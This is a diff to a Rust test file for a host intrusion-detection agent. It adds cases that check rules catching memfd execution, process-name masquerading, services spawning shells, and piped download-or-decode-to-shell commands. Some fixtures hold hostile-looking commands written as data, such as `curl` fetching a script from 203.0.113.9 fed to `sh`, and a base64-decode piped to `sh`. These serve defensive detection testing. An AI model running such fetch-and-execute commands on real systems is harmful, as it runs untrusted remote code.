@@ -8,6 +8,8 @@ use collector_core::{
     PerformanceAnomaly, PerformanceAnomalyKind, PerformanceEvent, PerformanceMetric,
     PerformanceSubject, ProcessKey,
 };
+use collector_core::{ProcessEvent, ProcessEventType};
+use daemoneye_agent::detect::Detector;
 use daemoneye_agent::engine::{reads_performance, ProcessRow, RuleEngine, RuleKind};
 use daemoneye_agent::network::ConnectionRow;
 use daemoneye_agent::performance::PerformanceRow;
@@ -352,6 +354,7 @@ fn ordinary_performance_raises_nothing() {
 }
 
 #[test]
+#[allow(clippy::too_many_lines)] // one list of cases
 fn every_builtin_rule_fires_on_its_case_and_only_there() {
     let mut deleted = row(10, "payload", "/usr/local/bin/payload", &["payload"]);
     deleted.exe_deleted = true;
@@ -363,8 +366,20 @@ fn every_builtin_rule_fires_on_its_case_and_only_there() {
     let mut planted = row(19, "helper", "/opt/tools/helper", &["helper"]);
     planted.uid = Some(0);
     planted.exe_dir_user_writable = Some(true);
+    let mut memfd = row(21, "x", "/memfd:x (deleted)", &["x"]);
+    memfd.exe_deleted = true;
+    memfd.file_exists = false;
     let cases = vec![
         (deleted, "deleted-executable"),
+        (memfd, "exec-from-memfd"),
+        (
+            row(22, "sleep", "/usr/bin/sleep", &["[kworker/0:7]", "600"]),
+            "kernel-thread-name-on-user-process",
+        ),
+        (
+            row(23, "sleep", "/usr/bin/sleep", &["cron", "-f"]),
+            "argv0-masquerade",
+        ),
         (row(11, "x", "/dev/shm/x", &["./x"]), "exec-from-temp-dir"),
         (
             row(
@@ -427,10 +442,11 @@ fn every_builtin_rule_fires_on_its_case_and_only_there() {
         .collect();
     want.sort();
     assert_eq!(got, want);
-    // Every built-in rule is covered by a case above, or by a performance
-    // or network case (and is a rule of that kind exactly then).
+    // Every built-in rule is covered by a case above, or by a history,
+    // performance or network case (and is a rule of that kind exactly then).
     let performance = performance_cases();
     let network = network_cases();
+    let history = history_cases();
     for rule in rules::builtin().unwrap() {
         let covered = match RuleKind::of(&rule.sql) {
             RuleKind::Network => network.iter().any(|(_, _, id, _)| *id == rule.id),
@@ -438,6 +454,9 @@ fn every_builtin_rule_fires_on_its_case_and_only_there() {
             _ => {
                 assert!(!reads_performance(&rule.sql));
                 want.iter().any(|(id, _)| *id == rule.id)
+                    || history
+                        .iter()
+                        .any(|(_, fired)| fired.iter().any(|(id, _)| *id == rule.id))
             }
         };
         assert!(covered, "no case for {}", rule.id);
@@ -502,4 +521,340 @@ fn an_ordinary_workload_raises_nothing() {
         row(41, "bash", "/usr/bin/bash", &["-bash"]),
     ];
     assert_eq!(fired(&rows), Vec::<(String, u32)>::new());
+}
+
+/// A process event of `pid` (child of `ppid`) of type `ty`.
+fn event(
+    ty: ProcessEventType,
+    pid: u32,
+    ppid: u32,
+    name: &str,
+    exe: &str,
+    argv: &[&str],
+) -> ProcessEvent {
+    let mut e = ProcessEvent::new(pid, name);
+    e.event_type = ty;
+    e.ppid = Some(ppid);
+    e.executable_path = Some(exe.to_owned());
+    e.command_line = argv.iter().map(ToString::to_string).collect();
+    e.process_key = Some(key(pid));
+    e.user_id = Some(1000);
+    e.euid = Some(1000);
+    e.accessible = true;
+    e.file_exists = true;
+    e
+}
+
+/// The (rule, pid) pairs a detector with the built-in pack raises over
+/// `batches`, in turn, sorted.
+fn fired_through_detector(batches: &[Vec<ProcessEvent>]) -> Vec<(String, u32)> {
+    let engine = RuleEngine::new(rules::builtin().unwrap()).unwrap();
+    let mut d = Detector::new(engine, Duration::from_secs(60));
+    let mut fired: Vec<(String, u32)> = Vec::new();
+    for batch in batches {
+        for a in d.on_events(batch).unwrap() {
+            fired.push((a.rule_id, a.process.pid));
+        }
+    }
+    fired.sort();
+    fired
+}
+
+/// Batches of events through the detector, and every (rule, pid) they raise.
+type HistoryCase = (Vec<Vec<ProcessEvent>>, Vec<(&'static str, u32)>);
+
+/// The cases of the rules over the history: each batches of events
+/// through the detector, and every (rule, pid) they must raise.
+#[allow(clippy::too_many_lines)] // one list of cases
+fn history_cases() -> Vec<HistoryCase> {
+    use ProcessEventType::{Exec, Exit, Fork, Snapshot};
+    vec![
+        // nginx's worker execs a shell in place: its parent is the
+        // container's shim, its previous image nginx.
+        (
+            vec![
+                vec![
+                    event(
+                        Snapshot,
+                        100,
+                        1,
+                        "containerd-shim",
+                        "/usr/bin/containerd-shim-runc-v2",
+                        &["/usr/bin/containerd-shim-runc-v2"],
+                    ),
+                    event(
+                        Snapshot,
+                        101,
+                        100,
+                        "nginx",
+                        "/usr/sbin/nginx",
+                        &["nginx: worker process"],
+                    ),
+                ],
+                vec![event(
+                    Exec,
+                    101,
+                    100,
+                    "sh",
+                    "/usr/bin/dash",
+                    &["sh", "-c", "id"],
+                )],
+            ],
+            vec![("shell-with-service-in-history", 101)],
+        ),
+        // postgres > sh -c (the parent rule's) > bash, judged after the sh
+        // exited: the database is the grandparent.
+        (
+            vec![
+                vec![event(
+                    Snapshot,
+                    110,
+                    1,
+                    "postgres",
+                    "/usr/lib/postgresql/15/bin/postgres",
+                    &["postgres"],
+                )],
+                vec![
+                    event(
+                        Fork,
+                        111,
+                        110,
+                        "postgres",
+                        "/usr/lib/postgresql/15/bin/postgres",
+                        &["postgres"],
+                    ),
+                    event(
+                        Exec,
+                        111,
+                        110,
+                        "sh",
+                        "/usr/bin/dash",
+                        &["sh", "-c", "bash -i"],
+                    ),
+                ],
+                vec![
+                    event(
+                        Fork,
+                        112,
+                        111,
+                        "sh",
+                        "/usr/bin/dash",
+                        &["sh", "-c", "bash -i"],
+                    ),
+                    event(
+                        Exit,
+                        111,
+                        110,
+                        "sh",
+                        "/usr/bin/dash",
+                        &["sh", "-c", "bash -i"],
+                    ),
+                ],
+                vec![event(
+                    Exec,
+                    112,
+                    1,
+                    "bash",
+                    "/usr/bin/bash",
+                    &["bash", "-i"],
+                )],
+            ],
+            vec![
+                ("service-spawned-shell", 111),
+                ("shell-with-service-in-history", 111),
+                ("shell-with-service-in-history", 112),
+            ],
+        ),
+        // `curl ... | sh` typed at a prompt: the pipeline is in no command
+        // line; curl is the sh's sibling.
+        (
+            vec![
+                vec![event(Snapshot, 120, 1, "bash", "/usr/bin/bash", &["-bash"])],
+                vec![
+                    event(Fork, 121, 120, "bash", "/usr/bin/bash", &["-bash"]),
+                    event(Fork, 122, 120, "bash", "/usr/bin/bash", &["-bash"]),
+                    event(
+                        Exec,
+                        121,
+                        120,
+                        "curl",
+                        "/usr/bin/curl",
+                        &["curl", "-fsSL", "http://203.0.113.9/i.sh"],
+                    ),
+                    event(Exec, 122, 120, "sh", "/usr/bin/dash", &["sh"]),
+                ],
+            ],
+            vec![("stdin-shell-fed-download-or-decode", 122)],
+        ),
+        // `bash -c 'echo ... | base64 -d | sh'`: the parent's command line
+        // (its own rule's) holds the pipeline.
+        (
+            vec![
+                vec![event(
+                    Snapshot,
+                    130,
+                    1,
+                    "bash",
+                    "/usr/bin/bash",
+                    &["bash", "-c", "echo aWQ= | base64 -d | sh"],
+                )],
+                vec![
+                    event(
+                        Fork,
+                        131,
+                        130,
+                        "bash",
+                        "/usr/bin/bash",
+                        &["bash", "-c", "echo aWQ= | base64 -d | sh"],
+                    ),
+                    event(Exec, 131, 130, "sh", "/usr/bin/dash", &["sh"]),
+                ],
+            ],
+            vec![
+                ("base64-decode-to-shell", 130),
+                ("stdin-shell-fed-download-or-decode", 131),
+            ],
+        ),
+    ]
+}
+
+#[test]
+fn every_history_rule_fires_on_its_case_through_the_detector() {
+    for (batches, want) in history_cases() {
+        let mut want: Vec<(String, u32)> = want
+            .into_iter()
+            .map(|(id, pid)| (id.to_owned(), pid))
+            .collect();
+        want.sort();
+        assert_eq!(fired_through_detector(&batches), want, "{batches:#?}");
+    }
+}
+
+#[test]
+#[allow(clippy::too_many_lines)] // one process tree
+fn an_ordinary_process_tree_raises_nothing_through_the_detector() {
+    use ProcessEventType::{Exec, Exit, Fork, Snapshot};
+    let nginx = "/usr/sbin/nginx";
+    let bash = "/usr/bin/bash";
+    let batches = vec![
+        vec![
+            event(
+                Snapshot,
+                1,
+                0,
+                "systemd",
+                "/usr/lib/systemd/systemd",
+                &["/sbin/init"],
+            ),
+            event(
+                Snapshot,
+                200,
+                1,
+                "nginx",
+                nginx,
+                &["nginx: master process /usr/sbin/nginx"],
+            ),
+            event(
+                Snapshot,
+                210,
+                1,
+                "postgres",
+                "/usr/lib/postgresql/15/bin/postgres",
+                &[
+                    "/usr/lib/postgresql/15/bin/postgres",
+                    "-D",
+                    "/var/lib/postgresql",
+                ],
+            ),
+            event(
+                Snapshot,
+                220,
+                1,
+                "sshd",
+                "/usr/sbin/sshd",
+                &["sshd: user@pts/0"],
+            ),
+            event(Snapshot, 221, 220, "bash", bash, &["-bash"]),
+        ],
+        // nginx forks a worker; postgres a backend that retitles itself.
+        vec![
+            event(
+                Fork,
+                201,
+                200,
+                "nginx",
+                nginx,
+                &["nginx: master process /usr/sbin/nginx"],
+            ),
+            event(Exec, 201, 200, "nginx", nginx, &["nginx: worker process"]),
+            event(
+                Fork,
+                211,
+                210,
+                "postgres",
+                "/usr/lib/postgresql/15/bin/postgres",
+                &["postgres: checkpointer"],
+            ),
+        ],
+        // At the prompt: `ls | sort`, a subshell, and a minute later
+        // `curl -o f`, then a script.
+        [
+            event(Fork, 222, 221, "bash", bash, &["-bash"]),
+            event(Exec, 222, 221, "ls", "/usr/bin/ls", &["ls", "-la"]),
+            event(Fork, 223, 221, "bash", bash, &["-bash"]),
+            event(Exec, 223, 221, "sort", "/usr/bin/sort", &["sort"]),
+            event(Exit, 222, 221, "ls", "/usr/bin/ls", &["ls", "-la"]),
+            event(Exit, 223, 221, "sort", "/usr/bin/sort", &["sort"]),
+            event(Fork, 224, 221, "bash", bash, &["-bash"]),
+            event(Exec, 224, 221, "bash", bash, &["bash"]),
+            event(Exit, 224, 221, "bash", bash, &["bash"]),
+        ]
+        .map(|mut e| {
+            e.timestamp -= Duration::from_secs(60);
+            e
+        })
+        .to_vec(),
+        vec![
+            event(Fork, 225, 221, "bash", bash, &["-bash"]),
+            event(
+                Exec,
+                225,
+                221,
+                "curl",
+                "/usr/bin/curl",
+                &["curl", "-fsSLo", "f.tgz", "https://example.com/f.tgz"],
+            ),
+            event(Fork, 226, 221, "bash", bash, &["-bash"]),
+            event(
+                Exec,
+                226,
+                221,
+                "deploy.sh",
+                bash,
+                &["/bin/bash", "./deploy.sh"],
+            ),
+            event(
+                Fork,
+                227,
+                226,
+                "deploy.sh",
+                bash,
+                &["/bin/bash", "./deploy.sh"],
+            ),
+            event(
+                Exec,
+                227,
+                226,
+                "sh",
+                "/usr/bin/dash",
+                &["sh", "-c", "tar xf f.tgz"],
+            ),
+            event(Fork, 228, 221, "bash", bash, &["-bash"]),
+            event(Exec, 228, 221, "sleep", "/usr/bin/sleep", &["sleep", "1"]),
+        ],
+    ];
+    assert_eq!(
+        fired_through_detector(&batches),
+        Vec::<(String, u32)>::new()
+    );
 }
